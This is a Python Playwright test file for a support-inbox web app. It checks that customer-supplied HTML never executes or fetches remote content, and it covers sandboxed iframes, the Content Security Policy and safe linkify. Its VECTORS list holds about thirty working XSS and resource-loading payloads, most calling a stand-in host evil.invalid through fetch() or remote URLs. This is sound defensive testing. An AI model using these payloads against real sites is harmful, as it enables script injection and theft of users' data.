"""What customers write never runs and never fetches: in the list, the thread, the frame, the panel, the title, names of files."""

import re
from typing import Any

from playwright.async_api import expect

from connectors.kit.html import clean
from stream import model
from tests.inbox.web.conftest import Desk, OpenDesk
from tests.inbox.web.fake_server import FakeServer, page_html

EVIL = "http://evil.invalid"
RUN = "top.hacked=1;fetch('http://evil.invalid/run')"
VECTORS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src='{EVIL}/pixel.gif'>",
    f"<img srcset='{EVIL}/a.png 1x, {EVIL}/b.png 2x'>",
    f'<svg onload="{RUN}"><animate attributeName=href values="javascript:{RUN}" /></svg>',
    f"<svg><image href='{EVIL}/i.svg'/><use href='{EVIL}/u.svg#x'/></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<object data='{EVIL}/o.swf'></object><embed src='{EVIL}/e.swf'>",
    f"<link rel=stylesheet href='{EVIL}/s.css'><style>@import url('{EVIL}/i.css');body{{background:url({EVIL}/b.png)}}</style>",
    f"<div style=\"background:url('{EVIL}/style.png');position:fixed;inset:0\">over everything</div>",
    f"<table background='{EVIL}/t.png'><td background='{EVIL}/td.png'>x</td></table>",
    f"<body background='{EVIL}/body.png' onload=\"{RUN}\">",
    f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
    f"<base href='{EVIL}/'><a href='relative'>x</a><img src='relative.png'>",
    f"<form action='{EVIL}/form'><input name=a value=b><button formaction='{EVIL}/button'>Sign in again</button></form>",
    f"<a href=\"javascript:{RUN}\" ping='{EVIL}/ping'>click</a>",
    f"<a href=\" java\nscript:{RUN}\">click</a><a href='data:text/html,<script>{RUN}</script>'>data</a>",
    f"<video poster='{EVIL}/p.png' src='{EVIL}/v.mp4' autoplay></video><audio src='{EVIL}/a.mp3' autoplay></audio>",
    f"<template><script>{RUN}</script></template><noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f'<input onfocus="{RUN}" autofocus><details open ontoggle="{RUN}">',
    f"<marquee onstart=\"{RUN}\">x</marquee><isindex action='{EVIL}'>",
    f"<p xmlns:xlink='x' xlink:href='{EVIL}'><xss onclick=\"{RUN}\">x</xss></p>",
    f"</body></html><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"${{{RUN}}}{{{{{RUN}}}}}<%= 1 %>",
    f'https://example.org/"onmouseover="{RUN}"',
    f"www.example.org/<script>{RUN}</script>",
    "\u202egnp.exe\u0000\u200b",
]


def plant(fake: FakeServer, vector: str, html: str, index: int) -> str:
    """A conversation with `vector` everywhere that a customer can put it; answers its id."""
    world = fake.world
    _, (identity,) = world.person(vector, [("email", vector)])
    ident = world.start("support-email", identity, vector, tags=(vector[:40],))
    files = (model.Attachment(id=f"f{index}", blob="b", name=vector, content_type=vector[:60], size=5),)
    world.receive(ident, vector, html=html, quoted=vector, subject=vector, attachments=files)
    world.receive(ident, vector)
    world.assign(ident, "mara")
    return ident


async def look_at_everything(desk: Desk, idents: list[str]) -> list[str]:
    """Open each conversation in text and as HTML, and everything that is folded; answers the dialogs that came up."""
    asked: list[str] = []
    desk.page.on("dialog", lambda dialog: asked.append(dialog.message))
    await desk.page.locator(".row").first.wait_for()
    for ident in idents:
        await desk.page.evaluate("(hash) => (location.hash = hash)", f"#/mine/{ident}")
        await desk.page.locator(f"#row-{ident}.is-active").wait_for()
        await desk.page.locator(".message").first.wait_for()
        switch = desk.page.get_by_role("button", name="Show original")
        if await switch.count():
            await switch.first.click()
        await expect(desk.page.locator("iframe")).not_to_have_count(0)
        await desk.page.keyboard.press(";")
    await desk.page.wait_for_timeout(500)
    return asked


async def test_no_vector_runs_or_fetches_even_if_the_server_had_cleaned_nothing(
    fake: FakeServer, desks: OpenDesk
) -> None:
    idents = [plant(fake, vector, vector, index) for index, vector in enumerate(VECTORS)]
    desk = await desks()
    assert await look_at_everything(desk, idents) == []
    assert await desk.page.evaluate("window.hacked") is None
    assert desk.outside == []
    # The inert document that the HTML is read in is under the page's policy as well, which says what it would have stopped.
    desk.problems[:] = [line for line in desk.problems if "Content Security Policy" not in line]
    await desk.page.evaluate("window.violations.length = 0")


async def test_vectors_as_the_server_sends_them_do_not_even_cause_a_complaint(
    fake: FakeServer, desks: OpenDesk
) -> None:
    idents = [plant(fake, vector, clean(vector) or "<p></p>", index) for index, vector in enumerate(VECTORS)]
    desk = await desks(dark=True)
    assert await look_at_everything(desk, idents) == []
    assert await desk.page.evaluate("window.hacked") is None


async def test_the_frame_is_sandboxed_and_has_a_policy_of_its_own(desk: Desk, fake: FakeServer) -> None:
    await desk.open("Ines Castro")
    frame = desk.page.locator("iframe")
    assert await frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    source = await frame.get_attribute("srcdoc") or ""
    assert f"default-src 'none'; style-src {fake.base}; img-src data:" in source
    assert "tracker.invalid" not in source
    await expect(desk.page.get_by_text("1 remote picture held back")).to_be_visible()
    assert desk.outside == []
    await desk.page.get_by_role("button", name="Show it").click()
    await expect(frame).to_have_attribute(
        "src", re.compile(r"^/api/v1/conversations/.*/html\?images=1&theme=\w+$")
    )
    assert await frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    await desk.page.wait_for_timeout(300)
    assert desk.outside in ([], ["https://tracker.invalid/open.gif"]), "asked for, so the frame may try"
    desk.outside.clear()
    desk.problems.clear()


async def test_pictures_inside_the_mail_are_handed_in_as_data(desk: Desk, fake: FakeServer) -> None:
    _, (identity,) = fake.world.person("Pic Sender", [("email", "p@example.org")])
    ident = fake.world.start("support-email", identity, "A picture")
    pixel = b"\x89PNG\r\n\x1a\n"
    fake.files["i1"] = ("inline.png", "image/png", pixel)
    inline = model.Attachment(
        id="i1",
        blob="i1",
        name="inline.png",
        content_type="image/png",
        size=8,
        inline=True,
        content_id="pic@x",
    )
    fake.world.receive(ident, "", html='<p>Look: <img src="cid:pic@x"></p>', attachments=(inline,))
    before = fake.world.n
    fake.world.assign(ident, "mara")
    await fake.push(
        *[{**one, "conversation": fake.world.view(ident)} for one in fake.world.journal if one["n"] > before]
    )
    await desk.open("Pic Sender")
    await desk.page.locator("iframe").wait_for()
    source = ""
    for _ in range(40):
        source = await desk.page.locator("iframe").get_attribute("srcdoc") or ""
        if "data:image/png;base64," in source:
            break
        await desk.page.wait_for_timeout(50)
    assert "data:image/png;base64," in source
    assert "cid:" not in source


LINKS: list[tuple[str, list[tuple[str, str]]]] = [
    ("see https://example.org/a?b=c.", [("https://example.org/a?b=c", "https://example.org/a?b=c")]),
    ("(www.example.org)", [("www.example.org", "https://www.example.org/")]),
    ("https://en.example.org/wiki/A_(b)", [("https://en.example.org/wiki/A_(b)",) * 2]),
    ("mail me@example.org, please", [("me@example.org", "mailto:me@example.org")]),
    ("javascript:alert(1) data:text/html,x vbscript:x file:///etc", []),
    ('https://a.example/"><img src=x>', [("https://a.example/", "https://a.example/")]),
    ("http://[", []),
]


async def test_links_are_found_as_data(desk: Desk) -> None:
    for text, links in LINKS:
        parts: list[dict[str, Any]] = await desk.page.evaluate(
            "async (text) => (await import('/ui/test/lib/text.js')).linkify(text)", text
        )
        assert [(part["text"], part["href"]) for part in parts if "href" in part] == links
        assert "".join(part["text"] for part in parts) == text


async def test_linkify_takes_its_time_from_nobody(desk: Desk) -> None:
    took: float = await desk.page.evaluate(
        """async () => {
          const { linkify } = await import('/ui/test/lib/text.js');
          const began = performance.now();
          for (const bad of ['a@'.repeat(50000), 'http://' + '('.repeat(99000), 'www.'.repeat(25000), 'a.'.repeat(50000) + '@']) linkify(bad);
          return performance.now() - began;
        }"""
    )
    assert took < 10_000


def test_the_policy_lets_nothing_in_but_our_own_files_and_one_import_map() -> None:
    html, policy = page_html()
    assert html.count("<script") == 3
    assert " style=" not in html
    assert "onload" not in html
    assert "'unsafe" not in policy
